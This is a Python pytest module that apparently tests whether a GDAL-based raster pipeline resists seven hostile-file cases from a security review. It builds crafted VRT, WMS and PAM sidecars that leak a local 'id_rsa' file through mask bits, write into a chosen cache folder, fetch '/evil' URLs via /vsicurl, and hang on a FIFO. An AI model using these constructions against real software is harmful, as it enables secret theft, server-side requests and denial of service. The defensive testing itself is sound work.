"""Scenes whose sidecars or tags make GDAL open what somebody else chose: the seven cases of the security review."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest
import rasterio
from affine import Affine
from PIL import Image

SIDE = 64
"""Rows and columns of a hostile scene; a secret has as many bytes, and its mask eight rows of bits."""
SECRET = b"TOP-SECRET-KEY of this machine, which no raster may ever show..!"


@dataclass(frozen=True, kw_only=True)
class Loot:
    """What the hostile scenes try to reach; `untouched` tells whether any of them did."""

    secret: Path
    """A file of the machine."""
    written: Path
    """An empty folder."""
    fifo: Path
    """A pipe without a writer: whoever opens it waits for ever."""
    url: str
    """Address of a server that logs its requests."""
    log: Path
    """The server's requests, one a line."""

    @property
    def requests(self) -> list[str]:
        """Requests for anything but the scenes themselves and their sidecars."""
        lines = self.log.read_text().splitlines() if self.log.exists() else []
        return [line for line in lines if "/evil" in line]

    def check_untouched(self) -> None:
        assert self.requests == []
        assert [*self.written.iterdir()] == []


@pytest.fixture(scope="module")
def loot(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Loot]:
    """A secret, an empty folder, a pipe and a server of the folder `served` beside them."""
    folder = tmp_path_factory.mktemp("loot")
    served, written, fifo = folder / "served", folder / "written", folder / "fifo"
    served.mkdir()
    written.mkdir()
    os.mkfifo(fifo)
    (folder / "id_rsa").write_bytes(SECRET)
    (served / "evil" / "0" / "0").mkdir(parents=True)
    for name in ("evil.png", "evil/0/0/0.png"):
        Image.fromarray(np.full((SIDE, SIDE), 255, np.uint8)).save(served / name)
    command = [sys.executable, str(Path(__file__).with_name("range_server.py")), str(served)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as server:
        try:
            assert server.stdout is not None
            url = f"http://127.0.0.1:{server.stdout.readline().strip()}"
            yield Loot(secret=folder / "id_rsa", written=written, fifo=fifo, url=url, log=served / "requests.log")
        finally:
            server.kill()


def write_plain(path: Path, *, overviews: str | None = None) -> None:
    """A scene of random bytes, with a tag that names a file of overviews."""
    profile = {"driver": "GTiff", "count": 3, "dtype": "uint8", "crs": "EPSG:32633", "photometric": "rgb"}
    place = Affine(0.5, 0, 500_000, 0, -0.5, 5_400_000)
    path.unlink(missing_ok=True)  # GDAL opens what it is to delete.
    pixels = np.random.default_rng(0).integers(1, 255, (3, SIDE, SIDE), np.uint8)
    with rasterio.open(path, "w", height=SIDE, width=SIDE, transform=place, **profile) as dataset:
        dataset.write(pixels)
        if overviews is not None:
            dataset.update_tags(ns="OVERVIEWS", OVERVIEW_FILE=overviews)


def _vrt(*sources: str) -> str:
    return (
        f'<VRTDataset rasterXSize="{SIDE}" rasterYSize="{SIDE}"><Metadata><MDI key="INTERNAL_MASK_FLAGS_1">2</MDI>'
        '<MDI key="INTERNAL_MASK_FLAGS_2">2</MDI><MDI key="INTERNAL_MASK_FLAGS_3">2</MDI></Metadata>'
        f'<VRTRasterBand dataType="Byte" band="1">{"".join(sources)}</VRTRasterBand></VRTDataset>'
    )


def _source(name: str, *, row: int = 0, rows: int = SIDE, lut: str = "") -> str:
    escaped = name.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    high = 1 if lut else rows
    return (
        f'<ComplexSource><SourceFilename relativeToVRT="0">{escaped}</SourceFilename><SourceBand>1</SourceBand>'
        f'<SrcRect xOff="0" yOff="0" xSize="{SIDE}" ySize="{high}"/>'
        f'<DstRect xOff="0" yOff="{row}" xSize="{SIDE}" ySize="{rows}"/>{lut}</ComplexSource>'
    )


def _leak(scene: Path, loot: Loot) -> None:
    """A mask whose rows are the bits of a file of the machine."""
    raw = (
        f'<VRTDataset rasterXSize="{SIDE}" rasterYSize="1"><VRTRasterBand dataType="Byte" band="1" '
        f'subClass="VRTRawRasterBand"><SourceFilename relativeToVRT="0">{loot.secret}</SourceFilename>'
        f"<ImageOffset>0</ImageOffset><PixelOffset>1</PixelOffset><LineOffset>{SIDE}</LineOffset>"
        "</VRTRasterBand></VRTDataset>"
    )
    rows = []
    for bit in range(8):
        values = ",".join(f"{value}:{255 * (value >> bit & 1)}" for value in range(256))
        rows.append(_source(raw, row=bit, rows=1, lut=f"<LUT>{values}</LUT>"))
    write_plain(scene)
    Path(f"{scene}.msk").write_text(_vrt(*rows))


def _write(scene: Path, loot: Loot) -> None:
    """A mask from a server, whose cache is a folder that the scene's writer chose."""
    size = f"<SizeX>{SIDE}</SizeX><SizeY>{SIDE}</SizeY>"
    service = (
        f'<GDAL_WMS><Service name="TMS"><ServerUrl>{loot.url}/evil/${{z}}/${{x}}/${{y}}.png</ServerUrl></Service>'
        "<DataWindow><UpperLeftX>0</UpperLeftX><UpperLeftY>0</UpperLeftY>"
        f"<LowerRightX>{SIDE}</LowerRightX><LowerRightY>{SIDE}</LowerRightY>"
        f"<TileLevel>0</TileLevel><TileCountX>1</TileCountX><TileCountY>1</TileCountY>{size}</DataWindow>"
        f"<BlockSizeX>{SIDE}</BlockSizeX><BlockSizeY>{SIDE}</BlockSizeY><BandsCount>1</BandsCount>"
        f"<Cache><Path>{loot.written}</Path><Depth>0</Depth><Extension>.pth</Extension></Cache></GDAL_WMS>"
    )
    write_plain(scene)
    Path(f"{scene}.msk").write_text(_vrt(_source(service)))


def _foreign_mask(scene: Path, loot: Loot) -> None:
    """A mask that is a picture elsewhere."""
    write_plain(scene)
    picture = loot.secret.with_name("foreign.png")
    Image.fromarray(np.tri(SIDE, SIDE, dtype=np.uint8) * 255).save(picture)
    Path(f"{scene}.msk").write_text(_vrt(_source(str(picture))))


def _overview_tag(scene: Path, loot: Loot) -> None:
    write_plain(scene, overviews=f"/vsicurl/{loot.url}/evil.tif")


def _overview_pam(scene: Path, loot: Loot) -> None:
    write_plain(scene)
    Path(f"{scene}.aux.xml").write_text(
        '<PAMDataset><Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">'
        f"/vsicurl/{loot.url}/evil.tif</MDI></Metadata></PAMDataset>"
    )


def _overview_file(scene: Path, loot: Loot) -> None:
    write_plain(scene)
    Path(f"{scene}.ovr").write_text(_vrt(_source(f"/vsicurl/{loot.url}/evil.png")))


def _overview_fifo(scene: Path, loot: Loot) -> None:
    write_plain(scene, overviews=str(loot.fifo))


CASES: dict[str, Callable[[Path, Loot], None]] = {
    "leak": _leak,
    "write": _write,
    "foreign_mask": _foreign_mask,
    "overview_tag": _overview_tag,
    "overview_pam": _overview_pam,
    "overview_file": _overview_file,
    "overview_fifo": _overview_fifo,
}
"""Name of a case -> writes its scene and sidecars."""


def secret_of(mask: np.ndarray[tuple[int, ...], np.dtype[np.bool_]]) -> bytes:
    """The bytes whose bits are the first eight rows of a mask."""
    return np.packbits(mask[:8].T, axis=1, bitorder="little").tobytes()
